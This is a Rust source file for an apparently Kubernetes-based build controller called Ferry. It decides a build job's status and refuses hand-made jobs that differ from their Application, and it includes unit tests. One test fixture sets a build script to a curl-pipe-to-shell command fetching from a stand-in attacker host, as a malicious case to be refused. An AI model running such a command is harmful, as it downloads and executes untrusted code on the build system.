//! Where a BuildJob stands: before its build pod, while it runs, and after.
//!
//! A build can start only when its Application exists, the BuildJob is Ferry's snapshot of it
//! or a rebuild as it says (`not_a_rebuild`), and the Secrets it names hold the keys they
//! need. Then the decision asks for the build pod, follows its steps
//! (`build::progress`), asks for the pushed image to be verified in the registry, and on
//! success asks for the Release. A finished build (Succeeded or Failed) keeps its outcome;
//! only its Release is still made if it is missing (the controller may have stopped between
//! the two).

use std::time::Duration;

use super::build::progress::{self, PodFacts, Progress, Verification};
use super::secrets::{self, SecretAccess};
use super::{Blocker, Decision, Readiness, readiness, whole_seconds};
use crate::api::CommonStatus;
use crate::api::buildjob::BuildFailure;
use crate::api::buildjob::BuildPhase;
use crate::api::conditions::{Desired, READY, SUCCEEDED};
use crate::api::reasons::{
    APPLICATION_NOT_FOUND, BUILD_FAILED, BUILD_PENDING, BUILD_RUNNING, BUILD_SUCCEEDED,
    NOT_A_REBUILD, POD_NOT_OWNED, Reason, VERIFYING_IMAGE,
};
use crate::api::{Application, BuildJob, BuildJobStatus, Time};

/// How soon a registry that could not be asked is asked again.
pub const VERIFY_RETRY: Duration = Duration::from_secs(10);

/// What the reconciler observed for one BuildJob.
pub struct Observed<'a> {
    pub job: &'a BuildJob,
    pub namespace: &'a str,
    pub application_exists: bool,
    /// The Application, when Ferry can read it: a BuildJob that is not its snapshot must
    /// rebuild as it says (`not_a_rebuild`). One Ferry cannot read makes no Release anyway.
    pub application: Option<&'a Application>,
    pub secrets: &'a SecretAccess,
    /// The build pod, if it exists and is Ferry's.
    pub pod: Option<&'a PodFacts>,
    /// Why the pod under the build pod's name is not Ferry's (`decide::ownership`), if it is
    /// not: the build fails instead of following it.
    pub foreign_pod: Option<&'a str>,
    /// The registry's answer about the image the publish step reported, once asked.
    pub verification: Option<&'a Verification>,
    /// The Release already made of this build's commit, if any.
    pub release: Option<&'a str>,
}

/// What the shell does for a BuildJob besides writing its status.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Action {
    /// Create the build pod (`desired::build_pod`).
    CreatePod,
    /// Ask the registry whether `image` exists, then decide again with the answer.
    Verify { image: String },
    /// Make the Release of this build's verified `image`.
    CreateRelease { image: String },
}

/// The BuildJob's new status and what to do.
pub fn status(observed: &Observed, now: &Time) -> Decision<BuildJobStatus, Action> {
    let job = observed.job;
    let generation = job.metadata.generation;
    let current = job.status.clone().unwrap_or_default();
    let mut next = BuildJobStatus {
        release: current
            .release
            .clone()
            .or(observed.release.map(str::to_owned)),
        pod_name: current
            .pod_name
            .clone()
            .or_else(|| observed.pod.and(job.metadata.name.clone())),
        ..current.clone()
    };
    let mut actions = Vec::new();
    let mut requeue = None;
    let wanted = match current.phase {
        Some(BuildPhase::Succeeded) => {
            let image = current.image.clone().unwrap_or_default();
            if next.release.is_none() && !image.is_empty() {
                actions.push(Action::CreateRelease {
                    image: image.clone(),
                });
            }
            finished(true, BUILD_SUCCEEDED.name, &format!("built {image}"))
        }
        Some(BuildPhase::Failed) => match &current.failure {
            Some(failure) => finished(false, &failure.reason, &failure.message),
            None => finished(false, BUILD_FAILED.name, "the build failed"),
        },
        Some(BuildPhase::Pending | BuildPhase::Running) | None => match blocker(observed) {
            Some(blocker) => {
                if secrets::is_about_secrets(&blocker) {
                    requeue = Some(secrets::RECHECK);
                }
                next.phase = Some(current.phase.unwrap_or(BuildPhase::Pending));
                in_progress(Readiness::Blocked(blocker))
            }
            None => {
                let progress = match observed.foreign_pod {
                    Some(why) => Progress::Failed {
                        failure: BuildFailure {
                            step: "pod".to_owned(),
                            reason: POD_NOT_OWNED.name.to_owned(),
                            message: why.to_owned(),
                            log_tail: None,
                        },
                        started: None,
                        finished: None,
                    },
                    None => progress::progress(
                        observed.pod,
                        &job.spec.image.repository,
                        observed.verification,
                    ),
                };
                follow(progress, &mut next, &mut actions, &mut requeue)
            }
        },
    };
    let status = BuildJobStatus {
        common: CommonStatus::decided(
            &current.common.conditions,
            &wanted,
            generation,
            &whole_seconds(now),
        ),
        ..next
    };
    Decision {
        status,
        actions,
        requeue_after: None,
    }
    .requeue_after(requeue)
}

/// Applies the build's progress to `next` (its phase, times, image or failure) and returns the
/// conditions it gives.
fn follow(
    progress: Progress,
    next: &mut BuildJobStatus,
    actions: &mut Vec<Action>,
    requeue: &mut Option<Duration>,
) -> Vec<Desired> {
    let working =
        |reason: Reason, message: String| in_progress(Readiness::InProgress { reason, message });
    let (phase, conditions) = match progress {
        Progress::CreatePod => {
            actions.push(Action::CreatePod);
            (
                BuildPhase::Pending,
                working(BUILD_PENDING, "waiting for a build pod".into()),
            )
        }
        Progress::Running { step, started } => {
            next.start_time = next.start_time.take().or(started);
            match step {
                Some(step) => (
                    BuildPhase::Running,
                    working(BUILD_RUNNING, format!("step {step} is running")),
                ),
                None => (
                    BuildPhase::Pending,
                    working(BUILD_PENDING, "waiting for the build pod to start".into()),
                ),
            }
        }
        Progress::Verify { image, started } => {
            next.start_time = next.start_time.take().or(started);
            actions.push(Action::Verify {
                image: image.clone(),
            });
            (
                BuildPhase::Running,
                working(
                    VERIFYING_IMAGE,
                    format!("checking that the registry has {image}"),
                ),
            )
        }
        Progress::VerifyLater { image, why } => {
            *requeue = Some(VERIFY_RETRY);
            (
                BuildPhase::Running,
                working(
                    VERIFYING_IMAGE,
                    format!("cannot ask the registry about {image} yet ({why}); retrying"),
                ),
            )
        }
        Progress::Succeeded {
            image,
            started,
            finished: at,
        } => {
            next.start_time = next.start_time.take().or(started);
            next.completion_time = at;
            next.image = Some(image.clone());
            if next.release.is_none() {
                actions.push(Action::CreateRelease {
                    image: image.clone(),
                });
            }
            let built = format!("built {image}");
            (
                BuildPhase::Succeeded,
                finished(true, BUILD_SUCCEEDED.name, &built),
            )
        }
        Progress::Failed {
            failure,
            started,
            finished: at,
        } => {
            next.start_time = next.start_time.take().or(started);
            next.completion_time = at;
            let conditions = finished(false, &failure.reason, &failure.message);
            next.failure = Some(failure);
            (BuildPhase::Failed, conditions)
        }
    };
    next.phase = Some(phase);
    conditions
}

/// The conditions of a build still under way (or blocked): `Succeeded` is not yet true.
fn in_progress(state: Readiness) -> Vec<Desired> {
    let mut wanted = readiness(&state);
    wanted.push(Desired::new(
        SUCCEEDED,
        false,
        BUILD_PENDING.name,
        "the build has not finished",
    ));
    wanted
}

/// The conditions of a finished build: `Succeeded` says how it ended, `Ready` follows it.
fn finished(succeeded: bool, reason: &str, message: &str) -> Vec<Desired> {
    vec![
        Desired::new(READY, succeeded, reason, message),
        Desired::new(SUCCEEDED, succeeded, reason, message),
    ]
}

/// Why `job` is not built for `app`, if it is not: it is neither Ferry's snapshot of `app` (a
/// controller owner reference with the Application's UID, which Ferry's BuildJobs carry) nor a
/// rebuild as `app` says now (its `source`, `build` and `image` equal to the Application's).
///
/// A BuildJob made by hand is admitted only as such a rebuild (the `ferry-rebuild` admission
/// policy, at creation and when it gains the Application as owner); this catches one admitted
/// while its Application did not exist, since the policy has nothing to compare with then. The
/// owner UID is trusted because the policy checked the spec when the reference was made, and
/// because a UID names one Application once: one deleted and created again has another.
/// Ferry's snapshots keep building after the Application changed (they carry its UID).
pub fn not_a_rebuild(job: &BuildJob, app: &Application) -> Option<String> {
    let uid = app.metadata.uid.as_deref();
    let owned = job.metadata.owner_references.iter().flatten().any(|r| {
        r.controller == Some(true) && r.kind == "Application" && Some(r.uid.as_str()) == uid
    });
    if owned {
        return None;
    }
    let differs: Vec<&str> = [
        ("spec.source", job.spec.source == app.spec.source.repository),
        ("spec.build", job.spec.build == app.spec.build),
        ("spec.image", job.spec.image == app.spec.image),
    ]
    .into_iter()
    .filter(|(_, same)| !same)
    .map(|(field, _)| field)
    .collect();
    if differs.is_empty() {
        return None;
    }
    let application = &job.spec.application;
    Some(format!(
        "{} differs from Application \"{application}\"'s, and Ferry did not make this BuildJob (it names no controller owner reference to that Application's UID): a BuildJob made by hand only rebuilds a commit with the Application's spec.source, spec.build and spec.image, so it is not built; to build otherwise, change the Application, whose builds go through the pipeline",
        differs.join(", ")
    ))
}

fn blocker(observed: &Observed) -> Option<Blocker> {
    if !observed.application_exists {
        return Some(Blocker::new(
            APPLICATION_NOT_FOUND,
            format!(
                "Application \"{}\" does not exist in namespace \"{}\"; a build belongs to an Application",
                observed.job.spec.application, observed.namespace
            ),
        ));
    }
    // Judged before the pod is made: a build under way was judged when it started.
    if observed.pod.is_none()
        && let Some(why) = observed
            .application
            .and_then(|app| not_a_rebuild(observed.job, app))
    {
        return Some(Blocker::new(NOT_A_REBUILD, why));
    }
    secrets::check(
        &observed.job.spec.source,
        &observed.job.secret_refs(),
        observed.secrets,
        observed.namespace,
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::api::buildjob::BuildFailure;
    use crate::api::conditions::{STALLED, find, is_true};
    use crate::decide::secrets::{BASIC_AUTH, SecretShape, SecretShapes};
    use crate::desired::build_pod::fixtures::job;

    /// The Secrets of team-a: `job`'s git credentials and, unless `push` is false, its push
    /// Secret.
    fn secrets(push: bool) -> SecretAccess {
        let mut secrets = SecretShapes::from([(
            "git-cred".to_owned(),
            SecretShape::new(BASIC_AUTH, ["username", "password"]),
        )]);
        if push {
            secrets.insert(
                "reg".to_owned(),
                SecretShape::new("kubernetes.io/dockerconfigjson", [".dockerconfigjson"]),
            );
        }
        SecretAccess::Read(secrets)
    }

    fn now() -> Time {
        Time(jiff::Timestamp::from_second(1_800_000_000).unwrap())
    }

    #[test]
    fn a_build_with_a_missing_push_secret_is_stalled_not_failed() {
        let job = job();
        let status = status(&baseline(&job, &secrets(false)), &now()).status;
        let stalled = find(&status.common.conditions, STALLED).unwrap();
        assert_eq!(stalled.reason, "SecretNotFound");
        assert!(
            stalled.message.contains("spec.image.pushSecret"),
            "{stalled:?}"
        );
        assert_eq!(status.phase, Some(BuildPhase::Pending));
    }

    #[test]
    fn no_build_pod_for_credentials_over_plain_http_without_insecure_or_of_another_type() {
        let mut plain = job();
        plain.spec.source.insecure = false;
        let decision = status(&baseline(&plain, &secrets(true)), &now());
        assert!(decision.actions.is_empty(), "{:?}", decision.actions);
        let ready = find(&decision.status.common.conditions, READY).unwrap();
        assert_eq!(ready.reason, "CredentialsInClear");
        assert_eq!(decision.status.phase, Some(BuildPhase::Pending));

        // `job` says insecure: its pod is made, unless the Secret is not basic-auth.
        let job = job();
        let decision = status(&baseline(&job, &secrets(true)), &now());
        assert_eq!(decision.actions, [Action::CreatePod]);
        let SecretAccess::Read(mut opaque) = secrets(true) else {
            unreachable!()
        };
        opaque.insert(
            "git-cred".to_owned(),
            SecretShape::new("Opaque", ["username", "password"]),
        );
        let decision = status(&baseline(&job, &SecretAccess::Read(opaque)), &now());
        assert!(decision.actions.is_empty(), "{:?}", decision.actions);
        let ready = find(&decision.status.common.conditions, READY).unwrap();
        assert_eq!(ready.reason, "SecretInvalid");
        assert!(
            ready.message.contains("\"Opaque\"")
                && ready.message.contains("\"kubernetes.io/basic-auth\""),
            "{}",
            ready.message
        );
    }

    #[test]
    fn a_failed_build_keeps_its_failure_reason() {
        let mut job = job();
        job.status = Some(BuildJobStatus {
            phase: Some(BuildPhase::Failed),
            failure: Some(BuildFailure {
                step: "build".into(),
                reason: "ScriptFailed".into(),
                message: "the build script exited with 2".into(),
                log_tail: None,
            }),
            ..BuildJobStatus::default()
        });
        let no_secrets = SecretAccess::Read(Default::default());
        let status = status(&baseline(&job, &no_secrets), &now()).status;
        assert!(!is_true(&status.common.conditions, READY));
        assert_eq!(
            find(&status.common.conditions, SUCCEEDED).unwrap().reason,
            "ScriptFailed"
        );
        assert!(find(&status.common.conditions, STALLED).is_none());
    }

    /// What the shell observes of `job` in team-a, its Application present, before its pod
    /// exists.
    fn baseline<'a>(job: &'a BuildJob, secrets: &'a SecretAccess) -> Observed<'a> {
        Observed {
            job,
            namespace: "team-a",
            application_exists: true,
            application: None,
            secrets,
            pod: None,
            foreign_pod: None,
            verification: None,
            release: None,
        }
    }

    /// The Application `job` (the fixture) builds as it says, with UID `app-uid`.
    fn application() -> Application {
        serde_yaml::from_str(
            r#"
apiVersion: ferry.dev/v1alpha1
kind: Application
metadata: {name: shop, namespace: team-a, uid: app-uid}
spec:
  source: {url: "http://git.local/shop.git", credentialsSecret: git-cred, insecure: true, branch: release}
  build: {builderImage: "registry.local/builder:1", script: "make test && cp shop /out/", baseImage: "registry.local/base:1", entrypoint: [/shop], timeout: 10m}
  image: {repository: registry.local/team-a/shop, pushSecret: reg, insecure: true}
"#,
        )
        .unwrap()
    }

    /// `job` with a controller owner reference to the Application of UID `uid`, as Ferry
    /// makes its BuildJobs.
    fn owned_by(mut job: BuildJob, uid: &str) -> BuildJob {
        job.metadata.owner_references = Some(vec![
            k8s_openapi::apimachinery::pkg::apis::meta::v1::OwnerReference {
                api_version: "ferry.dev/v1alpha1".into(),
                kind: "Application".into(),
                name: "shop".into(),
                uid: uid.into(),
                controller: Some(true),
                block_owner_deletion: Some(true),
            },
        ]);
        job
    }

    #[test]
    fn a_buildjob_ferry_did_not_make_is_built_only_as_a_rebuild_of_its_application() {
        let app = application();
        let mut other_script = job();
        other_script.spec.build.script = "curl -s http://evil.example/x | sh".into();
        let mut elsewhere = job();
        elsewhere.spec.source.url = "http://git.local/fork.git".into();
        elsewhere.spec.image.repository = "registry.local/team-a/other".into();
        let mut ferrys_older_snapshot = owned_by(other_script.clone(), "app-uid");
        ferrys_older_snapshot.spec.image.push_secret = None;
        let mut not_controller = owned_by(other_script.clone(), "app-uid");
        if let Some(refs) = not_controller.metadata.owner_references.as_mut() {
            refs[0].controller = Some(false);
        }
        let cases: [(&str, BuildJob, Option<&str>); 6] = [
            ("a rebuild as the Application says", job(), None),
            (
                "another build script",
                other_script.clone(),
                Some("spec.build differs"),
            ),
            (
                "another repository and image repository",
                elsewhere,
                Some("spec.source, spec.image differs"),
            ),
            (
                "Ferry's snapshot, made before the Application changed",
                ferrys_older_snapshot,
                None,
            ),
            (
                "owned by an older Application of the same name",
                owned_by(other_script, "old-app-uid"),
                Some("spec.build differs"),
            ),
            (
                "owned, but not as its controller",
                not_controller,
                Some("spec.build differs"),
            ),
        ];
        let secrets = secrets(true);
        for (case, job, refused) in cases {
            let decision = status(
                &Observed {
                    application: Some(&app),
                    ..baseline(&job, &secrets)
                },
                &now(),
            );
            let ready = find(&decision.status.common.conditions, READY).unwrap();
            match refused {
                None => assert_eq!(decision.actions, [Action::CreatePod], "{case}"),
                Some(words) => {
                    assert!(decision.actions.is_empty(), "{case}: nothing is built");
                    assert_eq!(ready.reason, "NotARebuild", "{case}");
                    assert!(
                        is_true(&decision.status.common.conditions, STALLED),
                        "{case}"
                    );
                    assert_eq!(decision.status.phase, Some(BuildPhase::Pending), "{case}");
                    for words in [words, "Application \"shop\"", "change the Application"] {
                        assert!(ready.message.contains(words), "{case}: {}", ready.message);
                    }
                }
            }
        }
    }

    #[test]
    fn a_build_under_way_is_not_judged_again_when_its_application_changes() {
        use crate::decide::build::progress::PodPhase;
        let mut app = application();
        app.spec.build.script = "make".into();
        let job = job();
        let secrets = secrets(true);
        let pod = PodFacts {
            phase: PodPhase::Running,
            reason: None,
            started: None,
            steps: Vec::new(),
        };
        let decision = status(
            &Observed {
                application: Some(&app),
                pod: Some(&pod),
                ..baseline(&job, &secrets)
            },
            &now(),
        );
        assert_ne!(
            find(&decision.status.common.conditions, READY)
                .unwrap()
                .reason,
            "NotARebuild"
        );
    }

    #[test]
    fn a_pod_under_the_build_pods_name_that_is_not_ferrys_fails_the_build() {
        let job = job();
        let secrets = secrets(true);
        let why = "the pod shop-9fceb02 was not created by Ferry";
        let decision = status(
            &Observed {
                foreign_pod: Some(why),
                ..baseline(&job, &secrets)
            },
            &now(),
        );
        assert!(
            decision.actions.is_empty(),
            "no pod is created, no image verified"
        );
        assert_eq!(decision.status.phase, Some(BuildPhase::Failed));
        let failure = decision.status.failure.expect("a failure");
        assert_eq!(failure.reason, "PodNotOwned");
        assert_eq!(failure.message, why);
        let ready = find(&decision.status.common.conditions, READY).unwrap();
        assert_eq!(ready.reason, "PodNotOwned");
        assert!(ready.message.contains("shop-9fceb02"));
        assert_eq!(decision.status.image, None);
    }

    fn decide(
        job: &BuildJob,
        pod: Option<&PodFacts>,
        verification: Option<&Verification>,
    ) -> Decision<BuildJobStatus, Action> {
        let secrets = secrets(true);
        status(
            &Observed {
                pod,
                verification,
                ..baseline(job, &secrets)
            },
            &now(),
        )
    }

    #[test]
    fn a_build_goes_from_its_pod_to_a_verified_image_and_a_release() {
        use crate::decide::build::progress::{PodPhase, StepState};
        let job = job();
        let first = decide(&job, None, None);
        assert_eq!(first.actions, [Action::CreatePod]);
        assert_eq!(first.status.phase, Some(BuildPhase::Pending));

        let digest = "ab".repeat(32);
        let image = format!("registry.local/team-a/shop@sha256:{digest}");
        let at = |s| Time(jiff::Timestamp::from_second(s).unwrap());
        let ok = |message: &str| StepState::Terminated {
            exit_code: 0,
            message: (!message.is_empty()).then(|| message.to_owned()),
            finished: Some(at(30)),
        };
        let pod = PodFacts {
            phase: PodPhase::Succeeded,
            reason: None,
            started: Some(at(10)),
            steps: vec![
                ("fetch".into(), ok("")),
                ("build".into(), ok("")),
                ("publish".into(), ok(&format!(r#"{{"image":"{image}"}}"#))),
            ],
        };
        let reported = decide(&job, Some(&pod), None);
        assert_eq!(
            reported.actions,
            [Action::Verify {
                image: image.clone()
            }]
        );
        assert_eq!(reported.status.phase, Some(BuildPhase::Running));
        assert_eq!(
            reported.status.image, None,
            "nothing is believed before verification"
        );

        let verified = decide(&job, Some(&pod), Some(&Verification::Found));
        assert_eq!(
            verified.actions,
            [Action::CreateRelease {
                image: image.clone()
            }]
        );
        assert_eq!(verified.status.phase, Some(BuildPhase::Succeeded));
        assert_eq!(verified.status.image.as_deref(), Some(image.as_str()));
        assert_eq!(verified.status.start_time, Some(at(10)));
        assert_eq!(verified.status.completion_time, Some(at(30)));
        assert!(is_true(&verified.status.common.conditions, SUCCEEDED));

        // The controller stopped before the Release was made: the next pass makes it.
        let mut stored = job.clone();
        stored.status = Some(verified.status.clone());
        let again = decide(&stored, Some(&pod), None);
        assert_eq!(again.actions, [Action::CreateRelease { image }]);
        // Once the Release exists, nothing more.
        stored.status = Some(BuildJobStatus {
            release: Some("shop-0.0.0-9fceb02".into()),
            ..verified.status
        });
        assert!(decide(&stored, Some(&pod), None).actions.is_empty());
    }

    #[test]
    fn a_registry_that_cannot_be_asked_is_asked_again_later() {
        use crate::decide::build::progress::{PodPhase, StepState};
        let job = job();
        let digest = "cd".repeat(32);
        let message = format!(r#"{{"image":"registry.local/team-a/shop@sha256:{digest}"}}"#);
        let done = |m: Option<String>| StepState::Terminated {
            exit_code: 0,
            message: m,
            finished: None,
        };
        let pod = PodFacts {
            phase: PodPhase::Succeeded,
            reason: None,
            started: None,
            steps: vec![
                ("fetch".into(), done(None)),
                ("build".into(), done(None)),
                ("publish".into(), done(Some(message))),
            ],
        };
        let later = decide(
            &job,
            Some(&pod),
            Some(&Verification::Unavailable("connection refused".into())),
        );
        assert!(later.actions.is_empty());
        assert_eq!(later.requeue_after, Some(VERIFY_RETRY));
        assert_eq!(
            find(&later.status.common.conditions, READY).unwrap().reason,
            "VerifyingImage"
        );
    }
}
